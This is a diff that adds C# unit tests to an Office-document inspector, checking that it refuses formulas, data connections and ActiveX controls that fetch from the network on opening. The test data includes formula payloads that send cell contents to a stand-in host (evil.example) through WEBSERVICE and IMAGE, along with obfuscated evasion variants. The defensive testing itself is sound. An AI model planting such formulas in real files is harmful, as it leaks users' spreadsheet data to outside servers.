@@ -72,13 +72,56 @@ public sealed class ActiveOfficeTests
     public void Cells_that_ask_programs_are_refused(string part, string content) =>
         WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, (part, Xml, content))).ShouldBe(EvidenceTexts.Dde);
 
+    [Theory]
+    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A1)")]
+    [InlineData("IF(A1,_xlfn.webservice (A2),0)")]
+    [InlineData("_xlfn.IMAGE(\"https://evil.example/\"&amp;A1)")]
+    [InlineData("RTD(\"evil.server\",,\"a\")")]
+    [InlineData("1+<![CDATA[_xlfn.WEB]]>SERVICE(A1)")]
+    [InlineData("MAP(A1:A3,_xleta.WEBSERVICE)")]
+    public void Formulas_that_fetch_are_refused(string formula)
+    {
+        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/worksheets/sheet1.xml", Xml, $"<c><f>{formula}</f></c>"))).ShouldBe(EvidenceTexts.Fetches);
+        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/workbook.xml", Xml, $"<definedName name=\"a\">{formula}</definedName>")))
+            .ShouldBe(EvidenceTexts.Fetches);
+    }
+
+    [Theory]
+    [InlineData("<connections><connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection></connections>", true)]
+    [InlineData("<connections><connection id=\"1\" interval=\"5\"/></connections>", true)]
+    [InlineData("<queryTable refreshOnLoad=\"true\" connectionId=\"1\"/>", true)]
+    [InlineData("<pivotCacheDefinition refreshOnLoad=\"1\"><cacheSource type=\"external\" connectionId=\"1\"/></pivotCacheDefinition>", true)]
+    [InlineData("<pivotCacheDefinition refreshOnLoad=\"1\"><cacheSource type=\"worksheet\"/></pivotCacheDefinition>", false)]
+    [InlineData("<connections><connection id=\"1\" refreshOnLoad=\"0\" interval=\"0\"><dbPr connection=\"Provider=x\"/></connection></connections>", false)]
+    public void Data_that_is_fetched_at_each_opening_is_refused(string content, bool refused) =>
+        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/a.xml", Xml, content))).ShouldBe(refused ? EvidenceTexts.Fetches : null);
+
+    [Fact]
+    public void Controls_that_are_programs_are_refused_and_tick_boxes_of_a_sheet_are_taken()
+    {
+        foreach (var main in (string[])[OfficeFiles.WordMain, OfficeFiles.ExcelMain, OfficeFiles.PowerPointMain])
+        {
+            WhyNot(OfficeFiles.Related(main, "control", "activeX/activeX1.xml", external: false)).ShouldBe(EvidenceTexts.Controls);
+            WhyNot(OfficeFiles.With(main, ("a/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"a\"/>")))
+                .ShouldBe(EvidenceTexts.Controls);
+        }
+
+        const string TickBox = "application/vnd.ms-excel.controlproperties+xml";
+        WhyNot(OfficeFiles.Related(OfficeFiles.ExcelMain, "ctrlProp", "../ctrlProps/ctrlProp1.xml", external: false)).ShouldBeNull();
+        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/ctrlProps/ctrlProp1.xml", TickBox, "<formControlPr objectType=\"CheckBox\"/>")))
+            .ShouldBeNull();
+    }
+
     [Fact]
     public void Other_fields_and_formulas_are_taken()
     {
         const string Field = $"<w:p xmlns:w=\"w\">{Begin}<w:instrText>HYPERLINK \"https://example.com/dde\"</w:instrText>{Separate}"
             + $"<w:t>DDE</w:t><w:fldSimple w:instr=\"PAGE\"/>{End}</w:p>";
         inspection.Inspect(OfficeFiles.With(OfficeFiles.WordMain, ("word/header1.xml", Xml, Field))).IsRefused.ShouldBeFalse();
-        foreach (var formula in (string[])["A1&amp;\"a|b\"", "'a|b'!A1", "T[a|b]", "SUM(A1:A9)"])
+        foreach (var formula in (string[])
+        [
+            "A1&amp;\"a|b\"", "'a|b'!A1", "T[a|b]", "SUM(A1:A9)", "HYPERLINK(\"https://example.com/\")",
+            "_xlfn.DISPIMG(\"ID_1\",1)", "\"IMAGE(1)\"&amp;A1", "MYIMAGE(A1)", "RTD!A1", "'RTD('!A1"])
         {
             WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/sheet1.xml", Xml, $"<c><f>{formula}</f><v>a|b</v></c>"))).ShouldBeNull();
         }
